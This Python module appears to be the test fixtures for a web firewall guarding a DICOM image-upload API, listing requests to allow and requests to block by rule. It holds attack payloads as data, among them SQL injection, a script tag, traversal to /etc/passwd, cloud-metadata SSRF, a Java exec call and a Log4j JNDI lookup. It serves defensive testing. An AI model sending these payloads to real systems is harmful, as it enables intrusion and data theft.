"""The requests that show what the firewall does: those of users, and those of attackers."""

from dataclasses import replace

from tests.edge.managed_rules import RULE_SETS
from tests.edge.request import Request, with_headers

KIBIBYTE = 1024
MEBIBYTE = 1024 * KIBIBYTE

DICOM = b"\0" * 128 + b"DICM\x02\x00\x00\x00UL\x04\x00"  # DICOM PS3.10, 7.1
ATTACKS = {
    "SQL": b"' OR 1=1 --",
    "more SQL": b"1; DROP TABLE media",
    "a script": b"<script>alert(1)</script>",
    "a traversal": b"../../etc/passwd",
    "a remote file": b"http://198.51.100.9/shell",
    "the metadata address": b"169.254.169.254/latest/meta-data",
    "Java's runtime": b'(java.lang.Runtime).getRuntime().exec("id")',
    "Log4j's lookup": b"${jndi:ldap://example.com/}",
    "React's prototype": b'{"then":"$1:__proto__:then"}',
}
"""A body for each managed rule that looks for an attack in bodies, and none beside."""

BINARY = with_headers(content_type="application/octet-stream")
JSON = with_headers(content_type="application/json")
FORM = with_headers(content_type="application/x-www-form-urlencoded")
MULTIPART = with_headers(content_type="multipart/form-data; boundary=----WebKitFormBoundaryAb12cD")


def parts(content: bytes) -> bytes:
    """A form with one file, as a browser sends it."""
    boundary = b"------WebKitFormBoundaryAb12cD"
    disposition = b'Content-Disposition: form-data; name="file"; filename="weld seam.dcm"'
    head = boundary + b"\r\n" + disposition + b"\r\nContent-Type: application/dicom\r\n\r\n"
    return head + content + b"\r\n" + boundary + b"--\r\n"


IMAGE = DICOM + bytes(32 * MEBIBYTE)
SUSPICIOUS_IMAGE = DICOM + b"\n".join(ATTACKS.values()) + bytes(MEBIBYTE)
UPLOAD = Request(method="POST", path="/api/media", headers=BINARY, body=IMAGE)
FORM_UPLOAD = replace(UPLOAD, headers=MULTIPART, body=parts(IMAGE))
SUSPICIOUS = replace(UPLOAD, body=SUSPICIOUS_IMAGE)
CALL = Request(method="POST", path="/api/v2/acme/media", headers=JSON, body=b'{"name": "weld"}')

ALLOWED = {
    "the start page": Request(),
    "a page's head": Request(method="HEAD"),
    "a preflight": Request(method="OPTIONS", path="/api/media"),
    "a static asset": Request(path="/_app/immutable/chunks/index.Ab12.js"),
    "a query of the API": Request(path="/api/media", query="name=weld-seam.dcm&limit=20"),
    "a download": Request(path="/api/media/42", headers=with_headers(range="bytes=0-1023")),
    "a deletion": Request(method="DELETE", path="/api/v2/acme/projects", query="project=7"),
    "a login form": Request(method="POST", path="/login", headers=FORM, body=b"user=a%40b.de"),
    "a JSON call": CALL,
    "a long JSON call": replace(CALL, body=b'{"points": "' + b"1" * 60 * KIBIBYTE + b'"}'),
    "a JSON call as long as can be inspected": replace(CALL, body=b"1" * 64 * KIBIBYTE),
    "a large binary upload": UPLOAD,
    "a large multipart upload": FORM_UPLOAD,
    "an upload by PUT": replace(UPLOAD, method="PUT", path="/api/media/42"),
    "an upload by PATCH": replace(UPLOAD, method="PATCH", path="/api/media/42"),
    "an upload that says DICOM": replace(
        UPLOAD, headers=with_headers(content_type="application/dicom")
    ),
    "an upload in unusual case": replace(
        UPLOAD, headers=with_headers(content_type="Application/Octet-Stream")
    ),
    "an upload by a script": replace(
        FORM_UPLOAD,
        headers=with_headers(
            content_type='multipart/form-data;boundary="5d1f"', user_agent="python-requests/2.32"
        ),
    ),
    "a small upload": replace(UPLOAD, body=DICOM),
    "one of a hundred colleagues behind one address": Request(requests_before=19_999),
    "an empty upload": replace(UPLOAD, body=b""),
    "an upload with bytes like every attack": SUSPICIOUS,
    "a multipart upload with bytes like every attack": replace(
        FORM_UPLOAD, body=parts(SUSPICIOUS_IMAGE)
    ),
    **{
        f"a small upload with bytes like {name}": replace(UPLOAD, body=DICOM + attack)
        for name, attack in ATTACKS.items()
    },
    "a busy address": Request(requests_before=2999),
    "an address that floods others": Request(reputation=frozenset({"floods"})),
}

TOO_LARGE = "UninspectableBody"
ATTACK = "BodyAttack"

BLOCKED = {
    # The same bodies, but not handed to the API as a file.
    "an image sent to the frontend": (replace(UPLOAD, path="/"), TOO_LARGE),
    "a form with an image sent to the frontend": (replace(FORM_UPLOAD, path="/login"), TOO_LARGE),
    "an image sent beside the API": (replace(UPLOAD, path="/apis/media"), TOO_LARGE),
    "an image sent below the API's name": (replace(UPLOAD, path="/x/api/media"), TOO_LARGE),
    "an image sent to the API in upper case": (replace(UPLOAD, path="/API/media"), TOO_LARGE),
    "an image sent to the API encoded": (replace(UPLOAD, path="/%61pi/media"), TOO_LARGE),
    "an image in a GET": (replace(UPLOAD, method="GET"), TOO_LARGE),
    "an image in a DELETE": (replace(UPLOAD, method="DELETE"), TOO_LARGE),
    "an image that says nothing": (replace(UPLOAD, headers=with_headers()), TOO_LARGE),
    "an image that says JSON": (replace(UPLOAD, headers=JSON), TOO_LARGE),
    "a JSON call too long to be inspected": (
        replace(CALL, body=b"1" * (64 * KIBIBYTE + 1)),
        TOO_LARGE,
    ),
    "an attack behind 64 KiB of JSON": (
        replace(CALL, body=b" " * 64 * KIBIBYTE + ATTACKS["SQL"]),
        TOO_LARGE,
    ),
    # Content types that say more than one thing.
    **{
        f"an attack that says {content_type}": (
            replace(CALL, headers=with_headers(content_type=content_type), body=ATTACKS["SQL"]),
            ATTACK,
        )
        for content_type in (
            "application/dicom+json",
            "application/octet-stream, application/json",
            "application/json, application/octet-stream",
            "multipart/form-data; boundary=a,application/json",
            "multipart/form-data",
            "multipart/form-database",
            "multipart/form-data; boundary=$a",
            f"multipart/form-data; boundary={'a' * 71}",
            "multipart/mixed; boundary=a",
            "text/plain",
        )
    },
    # Attacks in bodies that are no files.
    **{
        f"{name} in JSON": (replace(CALL, body=b'{"name": "' + attack + b'"}'), ATTACK)
        for name, attack in ATTACKS.items()
    },
    **{
        f"{name} in a file for the frontend": (
            replace(FORM_UPLOAD, path="/", body=parts(attack)),
            ATTACK,
        )
        for name, attack in ATTACKS.items()
    },
    "SQL in a form": (
        Request(method="POST", path="/login", headers=FORM, body=b"u=' or 1"),
        ATTACK,
    ),
    "a script at the end of what is inspected": (
        replace(CALL, body=b" " * 63 * KIBIBYTE + ATTACKS["a script"]),
        ATTACK,
    ),
    # Attacks beside the body, also of an upload.
    "SQL in a query": (Request(query="id=1%27%20or%201"), "SQLiRuleSet/SQLi_QUERYARGUMENTS"),
    "SQL in an upload's query": (
        replace(UPLOAD, query="name=1' or 1"),
        "SQLiRuleSet/SQLi_QUERYARGUMENTS",
    ),
    "SQL in an upload's path": (
        replace(UPLOAD, path="/api/media/1'%20or%201"),
        "SQLiRuleSet/SQLi_URIPATH",
    ),
    "SQL in an upload's cookie": (
        replace(UPLOAD, headers={**BINARY, "cookie": "session=' or 1"}),
        "SQLiRuleSet/SQLi_COOKIE",
    ),
    "a script in a path": (
        Request(path="/%3Cscript%3Ealert(1)"),
        "CommonRuleSet/CrossSiteScripting_URIPATH",
    ),
    "a script in an upload's query": (
        replace(UPLOAD, query="name=%3Cscript%3E"),
        "CommonRuleSet/CrossSiteScripting_QUERYARGUMENTS",
    ),
    "a script in an upload's cookie": (
        replace(UPLOAD, headers={**BINARY, "cookie": "theme=<script>"}),
        "CommonRuleSet/CrossSiteScripting_COOKIE",
    ),
    "a way out of the API": (
        replace(UPLOAD, path="/api/../../etc/passwd"),
        "CommonRuleSet/GenericLFI_URIPATH",
    ),
    "an encoded way out of the API": (
        replace(UPLOAD, path="/api/%2e%2e/%2e%2e/etc/passwd"),
        "CommonRuleSet/GenericLFI_URIPATH",
    ),
    "the metadata address in a query": (
        Request(path="/api/fetch", query="url=http://169.254.169.254/"),
        "CommonRuleSet/EC2MetaDataSSRF_QUERYARGUMENTS",
    ),
    "Log4j's lookup in an upload's header": (
        replace(UPLOAD, headers={**BINARY, "referer": "${jndi:ldap://example.com/}"}),
        "KnownBadInputsRuleSet/Log4JRCE_HEADER",
    ),
    "Log4j's lookup as a boundary": (
        replace(
            FORM_UPLOAD,
            headers=with_headers(content_type="multipart/form-data; boundary=${jndi:ldap://a}"),
        ),
        "KnownBadInputsRuleSet/Log4JRCE_HEADER",
    ),
    "a system file": (Request(path="/server.log"), "CommonRuleSet/RestrictedExtensions_URIPATH"),
    "an endless query": (
        Request(query="q=" + "a" * 2048),
        "CommonRuleSet/SizeRestrictions_QUERYSTRING",
    ),
    "an endless path of an upload": (
        replace(UPLOAD, path="/api/" + "a" * 1024),
        "CommonRuleSet/SizeRestrictions_URIPATH",
    ),
    "a PROPFIND": (Request(method="PROPFIND"), "KnownBadInputsRuleSet/PROPFIND_METHOD"),
    # Attackers.
    "an upload without a user agent": (
        replace(UPLOAD, headers={"content-type": "application/octet-stream"}),
        "CommonRuleSet/NoUserAgent_HEADER",
    ),
    "a scanner": (
        Request(headers=with_headers(user_agent="Nmap Scripting Engine")),
        "CommonRuleSet/UserAgent_BadBots_HEADER",
    ),
    "an upload from a known attacker": (
        replace(UPLOAD, reputation=frozenset({"malicious"})),
        "AmazonIpReputationList/AWSManagedIPReputationList",
    ),
    "a flood": (Request(requests_before=20_000), "RateLimit"),
    "a flood of uploads": (replace(UPLOAD, requests_before=20_000), "RateLimit"),
}

BODY_RULES = {
    (name, rule.name)
    for name, rule_set in RULE_SETS.items()
    for rule in rule_set.rules
    if rule.name.endswith("_BODY")
}
